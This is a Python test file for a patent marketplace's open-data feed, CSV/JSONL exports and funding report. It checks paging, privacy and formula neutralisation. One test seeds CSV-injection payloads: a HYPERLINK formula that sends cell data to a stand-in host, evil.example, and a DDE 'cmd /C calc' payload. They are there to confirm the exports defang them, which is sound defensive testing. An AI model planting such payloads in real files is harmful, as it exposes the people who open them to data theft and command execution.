"""Open data (成果信息汇交, issue 14 journey 5) from the users' side over HTTP: another system reads the open-data
feed to its end, then resumes after new listings are published; the exports (CSV and JSON Lines) hold no
personal data and no formula a spreadsheet would run; the report per funding project counts a seeded scenario."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from typing import Any
from uuid import UUID

import pytest
from litestar import Litestar
from litestar.testing import TestClient

from domain.deals.payment import obligation_id
from marketplace.accounts import commands as ac
from marketplace.catalogue import commands as cc
from marketplace.deals import commands as dc
from marketplace.platform.services import Services
from tests.unit.deal_helpers import cn
from tests.web.conftest import ADMIN_EMAIL

PASSWORD = "secret-password-1"
YUAN = 100
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FUNDING = cc.FundingInput(funder="福建省科学技术厅", programme="福建省科技计划项目", project_reference="2019N0012",
                          end_date=date(2022, 12, 31))
OTHER_FUNDING = cc.FundingInput(funder="国家自然科学基金委员会", programme="面上项目", project_reference="31871234")


class Library:
    """Sellers and a buyer, set up through the application as they would sign up; patents and listings."""

    def __init__(self, services: Services) -> None:
        self.services = services
        self.app = services.app
        admin = self.app.accounts.user_id_of(ADMIN_EMAIL)
        assert admin is not None
        self.admin = admin
        self.ids: dict[str, UUID] = {}
        self.serial = 0

    def sign_up(self, key: str, org: str, kind: str) -> None:
        user, _ = self.app.accounts.sign_up(ac.SignUp(email=f"{key}@example.test", password=PASSWORD,
                                                      display_name=f"Person {key}", organisation_name=org,
                                                      organisation_kind=kind, region="福建省福州市"))
        org_id: UUID = self.app.repository.get(user).organisation_id
        self.app.accounts.verify_organisation(ac.VerifyOrganisation(organisation_id=org_id), actor_id=self.admin)
        self.ids[key], self.ids[f"{key}_org"] = user, org_id

    def patent(self, owner: str, title_zh: str = "一种茶多酚提取方法", funding: cc.FundingInput | None = None) -> UUID:
        self.serial += 1
        patent, _ = self.app.catalogue.register_patent(cc.RegisterPatent(
            application_number=cn(f"2020107{self.serial:05d}"), patent_type="invention", title_zh=title_zh,
            title_en="A method of extracting tea polyphenols", ipc_codes=["A23F 3/06"], filing_date=date(2020, 3, 1),
            legal_status="granted", owners=[cc.OwnerShare(organisation_id=self.ids[f"{owner}_org"], share=100)],
            inventors=[cc.InventorShare(name="林一", share=100)]), actor_id=self.ids[owner])
        if funding is not None:
            self.app.catalogue.record_funding(cc.RecordFunding(patent_id=patent, public_funding=funding),
                                              actor_id=self.ids[owner])
        return patent

    def listing(self, owner: str, patent: UUID, *, publish: bool = True, advantages: str = "") -> UUID:
        listing, _ = self.app.catalogue.draft_listing(cc.DraftListing(
            patent_id=patent, deal_types=["assignment"], price_mode="fixed", asking_price=50_000 * YUAN,
            maturity="prototype", advantages=advantages), actor_id=self.ids[owner])
        if publish:
            self.app.catalogue.publish_listing(cc.PublishListing(listing_id=listing), actor_id=self.ids[owner])
        return listing

    def sell(self, seller: str, buyer: str, listing: UUID) -> None:
        """The buyer takes the listing at its price, both sign, and the platform records the bank transfer."""
        offer, _ = self.app.offers.make_offer(dc.MakeOffer(listing_id=listing, kind="assignment",
                                                           price=50_000 * YUAN), actor_id=self.ids[buyer])
        contract, _ = self.app.offers.accept_offer(dc.AcceptOffer(offer_id=offer), actor_id=self.ids[seller])
        digest: str = self.app.repository.get(contract).text_sha256
        for party in (seller, buyer):
            self.app.contracts.sign_contract(dc.SignContract(contract_id=contract, text_sha256=digest),
                                             actor_id=self.ids[party])
        self.app.payments.start_payment(dc.StartPayment(contract_id=contract, gateway="manual"),
                                        actor_id=self.ids[buyer])
        self.app.payments.record_manual_receipt(dc.RecordManualReceipt(
            obligation_id=obligation_id(contract, "upfront"), amount=50_000 * YUAN, bank_reference="B-1"),
            actor_id=self.admin)

    def caught_up(self) -> None:
        self.services.make_runner().catch_up()


@pytest.fixture
def library(services: Services, client: TestClient[Litestar]) -> Library:
    lib = Library(services)
    lib.sign_up("fafu", "福建农林大学", "university")
    lib.sign_up("fzu", "福州大学", "university")
    lib.sign_up("tea", "安溪铁观音集团有限公司", "enterprise")
    return lib


def read_to_end(client: TestClient[Litestar], after: int, limit: int) -> tuple[list[dict[str, Any]], int]:
    """What a following system does: ask after its position until a page brings nothing new."""
    items: list[dict[str, Any]] = []
    pages = 0
    while True:
        answer = client.get("/api/open-data/feed", params={"after": after, "limit": limit})
        assert answer.status_code == 200, answer.text
        page = answer.json()
        assert page["next"] >= after
        items += page["items"]
        pages += 1
        assert pages < 100
        if page["next"] == after:
            return items, after
        after = page["next"]


def test_the_feed_is_read_to_its_end_then_resumed_after_new_listings_are_published(
    library: Library, client: TestClient[Litestar],
) -> None:
    first = library.patent("fafu", funding=FUNDING)
    listed = library.listing("fafu", first)
    draft = library.listing("fzu", library.patent("fzu", title_zh="一种草稿专利"), publish=False)
    library.caught_up()

    items, position = read_to_end(client, 0, 3)  # small pages: the reader pages several times
    positions = [i["position"] for i in items]
    assert positions == sorted(positions)
    assert len(set(positions)) == len(positions)
    listing_items = [i for i in items if i["kind"] == "listing"]
    assert {i["id"] for i in listing_items} == {str(listed)}  # a draft is its seller's own
    assert str(draft) not in json.dumps(items)
    published = [i for i in listing_items if i["change"] == "Published"]
    assert published
    assert published[0]["listing"]["status"] == "published"
    assert published[0]["listing"]["seller"] == "福建农林大学"
    patent_items = [i for i in items if i["kind"] == "patent" and i["id"] == str(first)]
    assert {"Registered", "FundingRecorded"} <= {i["change"] for i in patent_items}
    assert patent_items[0]["patent"]["funding"]["project_reference"] == "2019N0012"
    assert patent_items[0]["patent"]["owners"] == ["福建农林大学"]

    # At its end: nothing new, and the position holds.
    again = client.get("/api/open-data/feed", params={"after": position}).json()
    assert again == {"items": [], "next": position}

    # New listings are published (and the draft at last): resuming after the position brings only them.
    second = library.listing("fzu", library.patent("fzu", title_zh="一种新的茶叶加工装置"))
    library.app.catalogue.publish_listing(cc.PublishListing(listing_id=draft), actor_id=library.ids["fzu"])
    library.caught_up()
    resumed, end = read_to_end(client, position, 100)
    assert end > position
    assert all(i["position"] > position for i in resumed)
    assert {i["id"] for i in resumed if i["kind"] == "listing" and i["change"] == "Published"} == {
        str(second), str(draft)}
    assert str(listed) not in {i["id"] for i in resumed}

    # Positions are the event store's: a second reader from 0 sees the same positions (and, the draft being
    # public now, its earlier events too, with the record as it stands).
    whole, whole_end = read_to_end(client, 0, 500)
    assert whole_end == end
    seen = {i["position"] for i in items + resumed}
    assert seen <= {i["position"] for i in whole}
    assert {i["id"] for i in whole if i["position"] not in seen} == {str(draft)}


def test_the_feed_reads_the_same_after_the_catalogue_is_rebuilt(library: Library, client: TestClient[Litestar]) -> None:
    library.listing("fafu", library.patent("fafu", funding=FUNDING))
    library.caught_up()
    before, end = read_to_end(client, 0, 500)
    assert before
    library.services.views["catalogue"].reset()  # what `marketplace rebuild catalogue` does first
    halfway = client.get("/api/open-data/feed", params={"after": end}).json()
    assert halfway == {"items": [], "next": end}  # never behind the reader's position, nothing invented
    library.caught_up()
    assert read_to_end(client, 0, 500) == (before, end)


def test_the_feed_refuses_what_is_not_a_position(client: TestClient[Litestar]) -> None:
    assert client.get("/api/open-data/feed", params={"after": -1}).status_code == 400
    assert client.get("/api/open-data/feed", params={"after": "x"}).status_code == 400
    assert client.get("/api/open-data/feed", params={"limit": 0}).status_code == 400
    assert client.get("/api/open-data/feed", params={"limit": 10_000}).status_code == 400
    assert client.get("/api/open-data/feed", params={"after": 2**70}).status_code == 400
    assert client.get("/api/open-data/feed", params={"after": 2**62}).json() == {"items": [], "next": 2**62}


def test_the_exports_hold_no_personal_data_and_no_formula(library: Library, client: TestClient[Litestar]) -> None:
    hostile = library.patent("fafu", title_zh=HOSTILE, funding=FUNDING)
    library.listing("fafu", hostile, advantages="+cmd|' /C calc'!A0")
    library.listing("fzu", library.patent("fzu"), publish=False)  # a draft: not exported
    library.caught_up()
    secrets = [str(library.ids[k]) for k in ("fafu", "fzu", "tea")] + [
        str(library.ids[f"{k}_org"]) for k in ("fafu", "fzu", "tea")] + [
        "@example.test", "Person fafu", str(library.admin), ADMIN_EMAIL]

    for path in ("/open-data/patents.csv", "/open-data/listings.csv", "/open-data/patents.jsonl",
                 "/open-data/listings.jsonl", "/api/open-data/feed?after=0&limit=500"):
        answer = client.get(path)
        assert answer.status_code == 200, path
        for secret in secrets:
            assert secret not in answer.text, (path, secret)

    patents = client.get("/open-data/patents.csv")
    assert patents.headers["content-type"].startswith("text/csv")
    assert patents.content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for Excel
    rows = list(csv.DictReader(io.StringIO(patents.content.decode("utf-8-sig"))))
    assert len(rows) == 2
    title = next(r["title_zh"] for r in rows if r["id"] == str(hostile))
    assert title == "'" + HOSTILE  # never a formula
    assert all(r[k].lstrip()[:1] not in "=+-@" for r in rows for k in r if r[k])
    assert {r["owners"] for r in rows} == {"福建农林大学", "福州大学"}
    assert next(r for r in rows if r["id"] == str(hostile))["project_reference"] == "2019N0012"

    listings = client.get("/open-data/listings.csv")
    rows = list(csv.DictReader(io.StringIO(listings.content.decode("utf-8-sig"))))
    assert len(rows) == 1  # the draft stays its seller's
    assert rows[0]["title_zh"] == "'" + HOSTILE
    assert rows[0]["advantages"].startswith("'+cmd")
    assert rows[0]["asking_price_yuan"] == "50000.00"

    lines = client.get("/open-data/listings.jsonl").text.splitlines()
    assert [json.loads(line)["title_zh"] for line in lines] == [HOSTILE]  # JSON keeps the text as it is
    records = [json.loads(line) for line in client.get("/open-data/patents.jsonl").text.splitlines()]
    assert len(records) == 2
    assert str(hostile) in {r["id"] for r in records}
    assert all(set(r) >= {"title_zh", "owners", "inventors", "funding"} for r in records)
    assert not any("email" in json.dumps(r) or "user" in json.dumps(r) for r in records)


def test_the_funding_report_counts_a_seeded_scenario(library: Library, client: TestClient[Litestar]) -> None:
    # Project 2019N0012: three patents; two listed; one sold and paid. Project 31871234: one patent, unlisted.
    a = library.patent("fafu", funding=FUNDING)
    b = library.patent("fafu", funding=FUNDING)
    library.patent("fafu", funding=FUNDING)
    library.patent("fzu", funding=OTHER_FUNDING)
    library.patent("fzu")  # no public funding: not in the report
    library.listing("fafu", b)
    library.sell("fafu", "tea", library.listing("fafu", a))
    library.caught_up()

    report = client.get("/api/open-data/funding").json()
    assert report == {"projects": [
        {"funder": "国家自然科学基金委员会", "programme": "面上项目", "project_reference": "31871234",
         "registered": 1, "listed": 0, "converted": 0},
        {"funder": "福建省科学技术厅", "programme": "福建省科技计划项目", "project_reference": "2019N0012",
         "registered": 3, "listed": 2, "converted": 1},
    ]}
    changes = {i["change"] for i in client.get("/api/open-data/feed", params={"limit": 500}).json()["items"]}
    assert "OwnershipTransferred" in changes  # the sale, as the public chain of title shows it
    assert not changes & {"DealOpened", "SaleReserved", "ListingOpened"}  # not a negotiation's steps
    page = client.get("/open-data/funding")
    assert page.status_code == 200
    assert "财政资助项目成果报告" in page.text
    assert "2019N0012" in page.text
    rows = list(csv.reader(io.StringIO(client.get("/open-data/funding.csv").content.decode("utf-8-sig"))))
    assert rows[0] == ["funder", "programme", "project_reference", "registered", "listed", "converted"]
    assert ["福建省科学技术厅", "福建省科技计划项目", "2019N0012", "3", "2", "1"] in rows
    client.get("/lang/en")
    english = client.get("/open-data/funding").text
    assert "Results per funding project" in english
    assert "Converted" in english


def test_the_open_data_page_links_every_export(client: TestClient[Litestar]) -> None:
    page = client.get("/open-data")
    assert page.status_code == 200
    assert "开放数据（成果信息汇交）" in page.text
    for link in ("/open-data/patents.csv", "/open-data/patents.jsonl", "/open-data/listings.csv",
                 "/open-data/listings.jsonl", "/api/open-data/feed", "/open-data/funding", "/open-data/funding.csv",
                 "/api/open-data/funding"):
        assert f'href="{link}' in page.text, link
    client.get("/lang/en")
    assert "Open data (results information)" in client.get("/open-data").text
